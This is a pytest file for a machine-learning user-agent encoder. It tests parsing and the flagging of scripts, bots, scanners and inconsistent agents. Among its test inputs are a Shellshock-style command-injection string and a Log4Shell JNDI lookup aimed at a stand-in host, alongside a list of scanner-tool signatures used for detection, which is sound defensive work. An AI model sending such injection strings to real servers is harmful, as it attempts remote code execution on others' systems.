"""User agents tell browser, system and device, and give away those that only pretend."""

import subprocess
import sys

import numpy as np
import polars as pl
import pytest

from phantom_ml.data.schema import ColumnKind
from phantom_ml.features.columns.user_agent import UserAgentEncoder
from phantom_ml.features.knowledge.lists import knowledge
from phantom_ml.features.parsing import user_agents
from tests.features.columns.made import computed, fitted, parts_of

CHROME = (
    "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/32.0.1700.107 Safari/537.36"
)
FIREFOX = "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:27.0) Gecko/20100101 Firefox/27.0"
SAFARI = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS 7_0_4 like Mac OS X) AppleWebKit/537.51.1 "
    "(KHTML, like Gecko) Version/7.0 Mobile/11B554a Safari/9537.53"
)
GOOGLEBOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
SQLMAP = "sqlmap/1.7.2#stable (https://sqlmap.org)"


def part(name: str, agent: str):
    return computed("user_agent", [agent])[name].item()


@pytest.mark.parametrize(
    ("agent", "browser", "major", "system", "device"),
    [
        (CHROME, "Chrome", 32, "Windows", None),
        (FIREFOX, "Firefox", 27, "Ubuntu", None),
        (SAFARI, "Mobile Safari", 7, "iOS", "iPhone"),
        (GOOGLEBOT, "Googlebot", 2, None, "Spider"),
        ("curl/7.88.1", "curl", 7, None, None),
        ("python-requests/2.31.0", "Python Requests", 2, None, None),
        ("", None, None, None, None),
    ],
)
def test_browser_system_and_device_are_told(agent, browser, major, system, device):
    table = computed("user_agent", [agent])
    parts = table.select("browser", "browser_major_version", "os", "device").row(0)
    assert parts == (browser, major, system, device)


@pytest.mark.parametrize(
    ("agent", "failed"),
    [(CHROME, False), ("Mozilla/4.0 (compatible;)", True), ("xyz", True), ("() { :;}; ping", True)],
)
def test_words_that_name_nothing_known_are_told(agent, failed):
    assert part("parse_failed", agent) == failed


@pytest.mark.parametrize(
    "agent",
    [
        "curl/8.4.0",
        "Wget/1.21.3",
        "python-requests/2.31.0",
        "Python-urllib/3.10",
        "Go-http-client/1.1",
        "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.1682",
        "Mozilla/4.0 (compatible; Win32; WinHttp.WinHttpRequest.5)",
        "Java/17.0.2",
        "Apache-HttpClient/4.5.13 (Java/11.0.15)",
        "okhttp/4.9.3",
        "Microsoft BITS/7.8",
        "libwww-perl/6.67",
    ],
)
def test_a_script_is_told(agent):
    assert part("is_script", agent)


@pytest.mark.parametrize(
    "agent", [GOOGLEBOT, "UniversalFeedParser/4.2-pre-314-svn +http://feedparser.org/", "Slurp"]
)
def test_a_bot_is_told(agent):
    assert part("is_bot", agent)


@pytest.mark.parametrize(
    "agent",
    [
        SQLMAP,
        "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
        "Mozilla/5.0 zgrab/0.x",
        "${jndi:ldap://203.0.113.9/a}",
    ],
)
def test_a_scanner_is_told(agent):
    assert part("is_scanner", agent)


@pytest.mark.parametrize("sign", ["is_script", "is_bot", "is_scanner", "is_inconsistent"])
def test_a_browser_bears_no_such_sign(sign):
    assert computed("user_agent", [CHROME, FIREFOX, SAFARI])[sign].to_list() == [False] * 3


def test_a_cubot_phone_is_no_bot():
    phone = "Mozilla/5.0 (Linux; Android 10; CUBOT X30) AppleWebKit/537.36 Chrome/96.0 Mobile"
    assert not part("is_bot", phone)


@pytest.mark.parametrize(
    ("agent", "inconsistent"),
    [
        ("Mozilla/5.0 (Windows NT 10.0) AppleWebKit/605.1.15 Version/17.0 Safari/605.1.15", True),
        ("Mozilla/5.0 (compatible; MSIE 9.0; Linux x86_64; Trident/5.0)", True),
        ("Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)", False),
        ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15) Version/17.0 Safari/605.1.15", False),
        ("curl/8.4.0", False),
        ("", False),
    ],
)
def test_a_browser_on_a_system_that_it_was_never_made_for_is_told(agent, inconsistent):
    assert part("is_inconsistent", agent) == inconsistent


def test_short_ones_are_told():
    assert computed("user_agent", ["", "Mozilla/5.0", CHROME])["is_short"].to_list() == [1, 1, 0]


def test_a_web_address_is_told():
    assert computed("user_agent", [GOOGLEBOT, CHROME])["mentions_url"].to_list() == [True, False]


def test_measures_of_the_text_are_counted():
    table = computed("user_agent", ["curl/7.88.1 (x86; linux)"])
    measures = table.select("length", "token_count", "version_digits", "special_share")
    assert measures.row(0) == (24, 3, 6, pytest.approx(6 / 24))


def test_a_version_too_great_for_a_number_is_missing():
    assert part("browser_major_version", "Firefox/" + "9" * 400) is None


def test_what_lies_beyond_the_first_characters_does_not_count_for_the_browser():
    assert part("browser", "x" * user_agents.MAX_CHARACTERS + " Firefox/27.0") is None


def test_a_user_agent_that_is_missing_has_no_parts():
    encoder = fitted("user_agent", [CHROME] * 9 + [FIREFOX] * 9, ColumnKind.USER_AGENT)
    table = parts_of(encoder, [FIREFOX, None])
    assert table["browser"].to_list() == ["Firefox", None]


def counted(known, calls: list):
    def call(agent: str):
        calls.append(agent)
        return known(agent)

    return call


@pytest.mark.parametrize(
    ("text_part", "asked"),
    [("is_script", 0), ("length", 0), ("browser", 1), ("os", 1), ("parse_failed", 2)],
)
def test_ua_parser_is_asked_only_for_what_is_wanted(monkeypatch, text_part, asked):
    calls = []
    for name in ("_browser", "_system", "_device"):
        monkeypatch.setattr(user_agents, name, counted(getattr(user_agents, name), calls))
    UserAgentEncoder.compute(pl.Series([CHROME]), [text_part])
    assert len(calls) == asked


def test_ua_parser_is_not_loaded_before_a_user_agent_is_read():
    code = (
        "import sys; from phantom_ml.features.base import encoders; encoders.names();"
        "sys.exit(any(m.startswith('ua_parser') for m in sys.modules))"
    )
    assert subprocess.run([sys.executable, "-c", code], check=False).returncode == 0


def test_browsers_of_the_list_are_called_as_ua_parser_calls_them():
    from ua_parser.loaders import load_lazy_builtins

    browsers = {m.family for m in load_lazy_builtins()[0]} - {"$1"}
    fixed = set(knowledge("user_agents")["runs_on"]) - {
        "Safari",
        "Konqueror",
        "Epiphany",
        "UC Browser",
    }
    assert fixed <= browsers | {"Android", "Samsung Internet"}


def firefox(major: int) -> str:
    return f"Mozilla/5.0 (X11; Linux x86_64; rv:{major}.0) Gecko/20100101 Firefox/{major}.0"


def ages(values: list) -> list[float]:
    seen = [firefox(27)] * 9 + [firefox(24)] * 5 + [firefox(999)] + [CHROME] * 9
    encoder = fitted("user_agent_age", seen, ColumnKind.USER_AGENT)
    out = np.zeros((len(values), 1), np.float32)
    encoder.transform(pl.Series("c", values), out)
    return out[:, 0].tolist()


@pytest.mark.parametrize(
    ("major", "age"),
    [(27, 0), (24, 3), (3, 24), (30, -3), (9999, -1000)],
)
def test_age_is_versions_behind_the_newest_that_several_rows_have(major, age):
    assert ages([firefox(major)]) == [age]


def test_a_browser_that_training_never_saw_has_no_age():
    assert np.isnan(ages([SAFARI, "", None])).all()


def test_nothing_is_learned_where_every_browser_has_one_version():
    assert fitted("user_agent_age", [CHROME] * 9 + [FIREFOX] * 9, ColumnKind.USER_AGENT) is None
